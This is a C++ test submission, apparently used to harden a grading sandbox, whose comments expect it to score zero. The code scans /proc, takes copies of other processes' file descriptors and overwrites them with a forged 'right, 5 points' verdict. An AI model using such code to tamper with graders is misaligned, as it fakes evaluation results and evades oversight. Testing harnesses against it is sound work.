// Opens whatever its parent and every other process has open, and takes copies of their descriptors.
// Attacks: a verdict file, or a pipe to the grader, that is open in a process within reach
// Expects: wrong, 0 points
// Seen: it ended with status 0 before that
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <filesystem>
#include <string>
#include <sys/syscall.h>
#include <unistd.h>

int main() {
    std::signal(SIGPIPE, SIG_IGN);
    constexpr const char* forged = "{\"verdict\": \"right\", \"points\": 5, \"story\": \"portlab-forged\"}\n";
    std::error_code none;
    for (const auto& process : std::filesystem::directory_iterator{"/proc", none}) {
        const int number = std::atoi(process.path().filename().c_str());
        if (number <= 0 || number == ::getpid())
            continue;
        const int handle = static_cast<int>(::syscall(SYS_pidfd_open, number, 0));
        for (int descriptor = 0; descriptor < 64; ++descriptor) {
            const std::string name = process.path().string() + "/fd/" + std::to_string(descriptor);
            for (const int copy : {::open(name.c_str(), O_WRONLY | O_NONBLOCK),
                                   static_cast<int>(::syscall(SYS_pidfd_getfd, handle, descriptor, 0))})
                if (copy >= 0 && ::ftruncate(copy, 0) <= 0 && ::write(copy, forged, std::strlen(forged)) >= 0)
                    ::close(copy);
        }
    }
}
